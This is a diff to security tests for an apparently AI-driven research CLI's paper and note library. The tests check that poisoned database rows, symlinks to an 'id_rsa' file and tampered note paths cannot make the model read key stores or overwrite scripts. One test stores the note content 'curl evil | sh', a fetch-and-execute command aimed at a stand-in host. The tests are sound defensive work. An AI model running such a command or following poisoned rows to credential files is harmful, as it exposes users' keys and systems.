@@ -8,6 +8,7 @@ import json
 import sqlite3
 from pathlib import Path
 
+from astro_cli.research.library.service import Library
 from tests.helpers import tool_results, write_config
 from tests.library_support import make_app
 from tests.pg_support import MEMBER_PASSWORD, member_url, new_database
@@ -53,9 +54,7 @@ def _group_attack(tmp_path, pg_server, fake, astro_env, workspace, run_astro, pa
     url = member_url(pg_server, new_database(pg_server))
     setup = make_app(tmp_path / "mallory", **{"library.database_url": url, "library.member": "mallory"})
     assert setup.settings.get("library.database_url")
-    from astro_cli.research.library.storage import library_store
-
-    library_store(setup).chunk_count()  # the schema exists (any member's first use creates it)
+    Library.of(setup).store.chunk_count()  # the schema exists (any member's first use creates it)
     setup.close()
     _insert_hostile_row(url, paper_id, target_of(workspace))
     _ask_for(fake, paper_id)
@@ -98,7 +97,7 @@ def test_a_link_in_papers_to_a_file_outside_is_not_followed(tmp_path, fake, astr
     (workspace / "papers").mkdir()
     (workspace / "papers" / "2501.00003.tex").symlink_to(outside / "id_rsa.tex")  # a cloned repository's link
     app = make_app(workspace)
-    from astro_cli.research.library.papers import Library
+    from astro_cli.research.library.service import Library
 
     Library(app).upsert_paper({"id": "2501.00003", "title": "Linked", "source_path": "papers/2501.00003.tex"})
     app.close()
@@ -114,7 +113,7 @@ def test_a_row_in_the_users_own_library_naming_the_key_store_reads_nothing(tmp_p
                                                                           run_astro):
     keys = _victim_keys(astro_env)
     app = make_app(workspace)  # a shipped .astro/astro.db, or any row written before
-    from astro_cli.research.library.papers import Library
+    from astro_cli.research.library.service import Library
 
     Library(app).upsert_paper({"id": "local-keys", "title": "Notes", "source_path": str(keys)})
     app.close()
@@ -151,8 +150,8 @@ def test_file_tools_never_read_or_search_a_key_store(tmp_path, fake, astro_env, 
 def test_text_stored_in_the_library_is_redacted_before_it_is_stored(tmp_path, monkeypatch):
     monkeypatch.setenv("OPENAI_API_KEY", OPENAI_KEY)
     app = make_app(tmp_path / "ws")
-    from astro_cli.research.library.papers import Library
     from astro_cli.research.library.parse import store_chunks
+    from astro_cli.research.library.service import Library
     from astro_cli.research.library.storage import ChunkRow
 
     library = Library(app)
@@ -169,19 +168,17 @@ def test_text_stored_in_the_library_is_redacted_before_it_is_stored(tmp_path, mo
 
 def test_a_note_row_naming_a_file_outside_notes_is_never_written(tmp_path):
     app = make_app(tmp_path / "ws")
-    from astro_cli.research.library.notes import note_scope, save_note
-    from astro_cli.research.library.storage import library_store
-
+    from astro_cli.research.library.notes import save_note
     script = tmp_path / "ws" / "scripts" / "post.sh"
     script.parent.mkdir(parents=True)
     script.write_text("echo safe\n")
-    save_note(app, "Plan", "first version")
+    save_note(Library.of(app), "Plan", "first version")
     db = sqlite3.connect(tmp_path / "ws" / ".astro" / "astro.db")
     with db:
         db.execute("UPDATE notes SET path = 'scripts/post.sh'")  # a shipped database, or a group member's row
     db.close()
-    assert library_store(app).note_titled("Plan", note_scope(app))["path"] == "scripts/post.sh"
-    saved = save_note(app, "Plan", "curl evil | sh")  # the model saves a note of the same title
+    assert Library.of(app).store.note_titled("Plan", Library.of(app).note_scope)["path"] == "scripts/post.sh"
+    saved = save_note(Library.of(app), "Plan", "curl evil | sh")  # the model saves a note of the same title
     assert script.read_text() == "echo safe\n"
     assert saved.path.parent.name == "notes"
     app.close()
